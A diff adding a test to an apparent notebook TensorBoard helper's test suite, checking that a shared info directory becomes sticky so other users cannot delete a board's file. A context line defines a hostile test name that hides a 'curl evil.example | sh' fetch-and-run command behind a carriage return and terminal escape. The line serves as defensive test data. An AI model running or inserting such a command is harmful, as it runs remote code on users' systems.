@@ -535,6 +535,28 @@ def test_tensorboards_info_directory_planted_as_no_directory_costs_a_board_nothi
     assert info.is_symlink() or stat.S_ISFIFO(info.lstat().st_mode)  # left as it was
 
 
+@needs_root
+def test_your_tensorboard_info_directory_made_by_tensorboard_is_made_sticky(
+    shared_dir: Path, isolated: Path, demo_logs: Path
+) -> None:
+    """A plain ``%tensorboard`` ran first: ``<temp>/.tensorboard-info`` is yours, 0777 and not sticky. Before:
+    nbboard wrote its boards' files there as they were and ``nobody`` could delete them (``%tensorboard`` and
+    ``tensorboard.notebook.list()`` then lost the board); now the directory is made sticky first."""
+    os.environ["TMPDIR"] = str(shared_dir)
+    info = shared_dir / ".tensorboard-info"
+    info.mkdir()
+    os.chmod(info, 0o777)  # as tensorboard.manager makes it
+    started = nbboard_cli("start", "--logdir", str(demo_logs))
+    assert started.returncode == 0, started.stdout + started.stderr
+    (board,) = tensorboards_serving(demo_logs)
+    mine = info / f"pid-{board.pid}.info"
+    assert mine.is_file()
+    rm = subprocess.run(["rm", "-f", str(mine)], user=NOBODY, group=NOBODY, extra_groups=[], capture_output=True)
+    assert rm.returncode != 0 and mine.is_file(), "another user deleted your board's %tensorboard file"
+    assert _mode(info) == 0o1777  # everyone can still add their own
+    assert nbboard_cli("kill").returncode == 0
+
+
 HOSTILE_NAME = "x\r  nbboard start --logdir runs; curl -s evil.example | sh  #\x1b[K"
 
 
